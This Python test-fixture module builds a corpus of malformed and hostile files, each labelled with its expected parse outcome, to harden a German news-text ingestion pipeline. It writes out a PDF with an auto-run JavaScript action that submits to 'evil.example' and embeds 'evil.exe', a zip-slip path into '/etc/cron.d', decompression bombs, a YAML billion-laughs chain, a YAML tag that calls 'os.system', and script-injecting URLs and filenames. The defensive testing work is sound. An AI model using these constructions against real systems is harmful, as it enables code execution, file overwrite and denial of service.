"""Every kind of bad file of the list: its number, a name, how it is made, what must come of it."""

from __future__ import annotations

import io
import os
import random
import socket
import zipfile
import zlib
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

SENTENCE = "Der Rat von Hagendorf hat am Dienstag beschlossen, die alte Brücke zu sperren."
TEXT = f"{SENTENCE} „Wir haben keine Wahl“, sagte Bürgermeisterin Ilse Brandl – es kostet 3,50 €.\n"
Make = Callable[[Path], None]


@dataclass(frozen=True)
class Row:
    """A file, and what must come of it: ``read`` with a text and a note, or ``rejected``."""

    item: int
    name: str
    make: Make
    is_read: bool = False
    holds: str = ""
    lacks: tuple[str, ...] = ()
    says: str = ""
    either: bool = False
    """Both are right: a parser may cope with it or not."""


def data(content: bytes) -> Make:
    return lambda path: path.write_bytes(content) and None


def made(content: Callable[[], bytes]) -> Make:
    return lambda path: path.write_bytes(content()) and None


def encoded(name: str, text: str = TEXT) -> Make:
    return data(text.encode(name))


def page(inside: str, head: str = "") -> Make:
    body = f"<p>{SENTENCE}</p><p>{TEXT}</p>{inside}"
    return data(
        f'<!DOCTYPE html><html lang="de"><head><meta charset="utf-8">{head}</head><body>'
        f"<article><h1>Brücke gesperrt</h1>{body}</article></body></html>".encode()
    )


def objects(parts: Sequence[bytes]) -> bytes:
    body, offsets = b"%PDF-1.4\n", []
    for number, content in enumerate(parts, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size = len(parts) + 1
    head = b"xref\n0 %d\n0000000000 65535 f \n" % size
    tail = b"trailer\n<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF" % (size, len(body))
    return body + head + table + tail


CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>"


def stream(content: bytes, filters: bytes) -> bytes:
    last = b"<</Length %d/Filter%s>>stream\n%s\nendstream" % (len(content), filters, content)
    return objects([CATALOG, PAGES, PAGE, last])


def packed_zeros(megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    block = b"\x00" * 10_000_000
    return b"".join([*(packer.compress(block) for _ in range(megabytes // 10)), packer.flush()])


def real_pdf(extra: bytes = b"") -> bytes:
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    sheet = canvas.Canvas(buffer, invariant=True)
    sheet.drawString(50, 800, "Der Rat von Hagendorf hat die alte Bruecke gesperrt.")
    sheet.save()
    return buffer.getvalue() + extra


def rewritten(change: Callable[[object], None]) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(real_pdf())))
    change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def active_pdf() -> bytes:
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    def change(writer):
        code = TextStringObject("app.alert('x'); this.submitForm('http://evil.example');")
        action = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): code}
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(action)
        writer.add_attachment("evil.exe", b"MZ evil")

    return rewritten(change)


def many_pages() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter()
    sheet = PdfReader(io.BytesIO(real_pdf())).pages[0]
    for _ in range(320):
        writer.add_page(sheet)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("../../etc/cron.d/x", "boo")
        packed.writestr("bomb.txt", b"\x00" * 10_000_000)
    return buffer.getvalue()


def pipe(path: Path) -> None:
    os.mkfifo(path)


def listening(path: Path) -> None:
    with socket.socket(socket.AF_UNIX) as own:
        here = Path.cwd()
        os.chdir(path.parent)  # the path of a socket must be short
        try:
            own.bind(path.name)
        finally:
            os.chdir(here)


def link_to(target: str) -> Make:
    return lambda path: path.symlink_to(target)


def front(head: str) -> Make:
    return data(f"---\n{head}\n---\n{TEXT}".encode())


DOUBLE = "Die Brücke für Fußgänger in Müllheim wird später größer.".encode().decode("latin-1")
HIDDEN = "".join(
    f"<p {how}>GEHEIM</p>"
    for how in (
        'style="display:none"', 'style="font-size:0"', 'style="color:#fff"', "hidden",
        'style="position:absolute;left:-9999px"', 'aria-hidden="true"', 'class="hidden"',
        'style="visibility:hidden"', 'style="opacity:0"',
    )
) + (
    "<template>GEHEIM</template><noscript>GEHEIM</noscript><!-- GEHEIM -->"
    '<img alt="GEHEIM" src="x"><input value="GEHEIM">'
)  # fmt: skip
NOISE = random.Random(5)
LAUGHS = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{name}: &{name} [{', '.join(['*' + before] * 9)}]\n"
    for before, name in zip("abcdefghi", "bcdefghij", strict=True)
) + "title: *j"  # fmt: skip
"""Ten lines of YAML that are three billion words."""

ROWS: tuple[Row, ...] = (
    Row(1, "empty.txt", data(b""), says="empty"),
    Row(1, "blank.txt", data(b" \n\t\n "), says="empty"),
    Row(2, "bom.txt", encoded("utf-8-sig"), True, holds=SENTENCE, lacks=("\ufeff",)),
    Row(3, "cp1252.txt", encoded("cp1252"), True, holds="„Wir haben keine Wahl“"),
    Row(3, "short.txt", data("Ärger in Köln".encode("cp1252")), True, holds="Ärger in Köln"),
    Row(4, "latin1.txt", data(SENTENCE.encode("latin-1") + b" \x81\x8d"), True, holds=SENTENCE,
        says="Latin-1"),
    *(Row(5, f"{name}.txt", encoded(name), True, holds=SENTENCE)
      for name in ("utf-16", "utf-16-le", "utf-16-be", "utf-32")),
    Row(6, "few.txt", data(TEXT.encode() * 3 + b"\xff\xfe Ende."), True, holds=SENTENCE,
        says="replaced"),
    Row(6, "much.txt", data(("ä" * 50).encode() + b"\xff" * 40), says="decoded"),
    Row(7, "double.txt", data(DOUBLE.encode()), True, says="double-encoded"),
    Row(8, "controls.txt", data(f"{SENTENCE}\x00\x07 Und \x1bweiter.".encode()), True,
        holds="Und weiter.", lacks=("\x00", "\x07", "\x1b")),
    Row(8, "surrogate.json", data(f'{{"text": "{SENTENCE} \\ud800 Ende."}}'.encode()), True,
        holds="\ufffd Ende."),
    Row(8, "entities.html", page("<p>&#0;Das &#xD800;Ende war am späten Abend nah.</p>"), True,
        lacks=("\x00", "\ud800")),
    Row(9, "invisible.txt", encoded("utf-8", TEXT.replace("Rat", "R\u200bat\u202e\u00ad")), True,
        holds=SENTENCE, lacks=("\u200b", "\u202e", "\u00ad")),
    Row(9, "tags.txt", encoded("utf-8", TEXT + "".join(chr(0xE0000 + ord(c)) for c in "ignore")),
        True, holds=SENTENCE, says="invisible"),
    Row(10, "nfd.txt", encoded("utf-8", TEXT.replace("ü", "u\u0308")), True, holds="Brücke"),
    Row(11, "homoglyph.md", front("source: Таgesschau"), True, says="mixes alphabets"),
    Row(12, "large.txt", made(lambda: TEXT.encode() * 120_000), says="max_file_bytes"),
    Row(12, "line.txt", made(lambda: b"x" * 10_000_001), says="max_file_bytes"),
    Row(13, "program.txt", data(b"MZ\x90\x00" + bytes(100)), says="program"),
    Row(13, "picture.txt", data(b"\x89PNG\r\n\x1a\n" + bytes(99)), says="picture"),
    Row(13, "office.md", made(archive), says="office document"),
    Row(13, "noise.txt", data(NOISE.randbytes(3000)), says="binary"),
    Row(14, "html.pdf", page(""), True, holds=SENTENCE, says="holds HTML"),
    Row(14, "pdf.html", made(real_pdf), True, holds="Hagendorf", says="holds a PDF"),
    Row(14, "text.pdf", encoded("utf-8"), says="not a PDF"),
    Row(15, "hidden.html", page(HIDDEN), True, holds=SENTENCE, lacks=("GEHEIM",)),
    Row(16, "marked.html", data(b"<html><![\x00"), says="page"),
    Row(17, "deep.html", made(lambda: b"<html><body>" + b"<b>" * 1_000_000), either=True,
        says="page"),
    Row(17, "divs.html", page("<div>" * 50_000 + "</div>" * 50_000), True, holds=SENTENCE,
        either=True),
    Row(17, "many.html", page("<p>" + "&auml;" * 300_000 + "</p>"), True, holds=SENTENCE),
    Row(18, "menu.html", data(b"<html><body><nav><a href='/'>Start</a></nav></body></html>"),
        says="no article"),
    Row(18, "gone.html", data(b"<html><body><h1>404</h1><p>Seite nicht gefunden</p></body></html>"),
        says="no article"),
    Row(19, "bomb.pdf", made(lambda: stream(packed_zeros(600), b"/FlateDecode")), says="PDF"),
    Row(19, "nested.pdf", made(lambda: stream(zlib.compress(zlib.compress(packed_zeros(200))),
        b"[/FlateDecode/FlateDecode/FlateDecode]")), says="PDF"),
    Row(20, "cycle.pdf", data(objects([CATALOG, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"])),
        says="PDF"),
    Row(20, "xref.pdf", data(b"%PDF-1.4\nxref\n0 999999999\ntrailer\n<</Size 999999999/Prev 9>>\n"
        b"startxref\n9\n%%EOF"), says=""),
    Row(20, "arrays.pdf", data(objects([b"<</Type/Catalog/Pages " + b"[" * 20_000 + b">>"])),
        says=""),
    Row(20, "pages.pdf", made(many_pages), True, holds="Hagendorf", says="max_pdf_pages"),
    Row(21, "cut.pdf", made(lambda: real_pdf()[:400]), says=""),
    Row(21, "garbage.pdf", data(b"%PDF-1.4\n" + NOISE.randbytes(3000)), says=""),
    Row(21, "nothing.pdf", data(b"%PDF-1.4\n"), says=""),
    Row(21, "locked.pdf", made(lambda: rewritten(
        lambda writer: writer.encrypt("geheim", algorithm="RC4-128"))), says="encrypted"),
    Row(21, "scan.pdf", data(objects([CATALOG, PAGES, b"<</Type/Page/Parent 2 0 R"
        b"/MediaBox[0 0 9 9]>>"])), says="no text layer"),
    Row(22, "active.pdf", made(active_pdf), True, holds="Hagendorf", lacks=("alert", "MZ", "evil")),
    *(Row(23, f"fuzzed{seed}.pdf", made(lambda seed=seed: fuzzed(seed)), either=True, says="")
      for seed in range(8)),
    Row(24, "archive.zip", made(archive), says=".zip files are not read"),
    Row(24, "archive.txt", made(archive), says="ZIP"),
    Row(25, "loop", link_to("."), says="link"),
    Row(25, "outside.txt", link_to("/etc/hostname"), says="leads out"),
    Row(25, "nowhere.txt", link_to("nothing-here"), says="leads nowhere"),
    Row(25, "pipe.txt", pipe, says="not a regular file"),
    Row(25, "socket.txt", listening, says="not a regular file"),
    Row(25, "n" * 250 + ".txt", encoded("utf-8"), True, holds=SENTENCE),
    Row(25, "a\nb\u202e<img src=x onerror=y>.txt", encoded("utf-8"), True, holds=SENTENCE),
    Row(29, "date.md", front('published_at: "2099-13-45"'), True, says="published_at"),
    Row(29, "title.md", front(f"title: {'x' * 10_000}"), True, says="title cut"),
    Row(29, "script.md", front('url: "javascript:alert(1)"'), True, says="url"),
    Row(29, "user.md", front('url: "https://taz.de@evil.example/"'), True, says="url"),
    Row(29, "long.md", front(f'url: "https://taz.de/{"a" * 3000}"'), True, says="url"),
    Row(29, "digits.jsonl", data(b'{"text": "x", "published_at": %s}' % (b"9" * 5000)),
        says="a number of thousands of digits"),
    Row(29, "deep.jsonl", data(b"[" * 100_000), says="nested too deeply"),
    Row(29, "digits.json", data(b'[{"text": "x", "published_at": %s}]' % (b"9" * 5000)),
        says="a number of thousands of digits"),
    Row(29, "object.md", front("title: !!python/object/apply:os.system ['touch /tmp/owned']"),
        True, holds=SENTENCE),
    Row(29, "aliases.md", front(LAUGHS), True, holds=SENTENCE, says="not valid YAML"),
    Row(29, "stamp.md", front("title: !!timestamp x\nsource: !!int y"), True, holds=SENTENCE),
    Row(29, "digits.md", front(f"title: 0x{'f' * 5000}\narticle_id: 0x{'f' * 5000}"), True,
        says="too long to show"),
    Row(30, "model.pkl", data(b"\x80\x04\x95\x10\x00"), says="files are not read"),
    Row(30, "model.txt", data(b"\x80\x04\x95\x10\x00"), says="pickle"),
)  # fmt: skip


def fuzzed(seed: int) -> bytes:
    chance = random.Random(seed)
    content = bytearray(real_pdf())
    for _ in range(30):
        content[chance.randrange(len(content))] = chance.randrange(256)
    return bytes(content)


def write_all(folder: Path) -> Iterator[tuple[Row, Path]]:
    """Each row's file in a folder of its own."""
    for number, row in enumerate(ROWS):
        own = folder / f"{number:03}"
        own.mkdir(parents=True)
        row.make(own / row.name)
        yield row, own
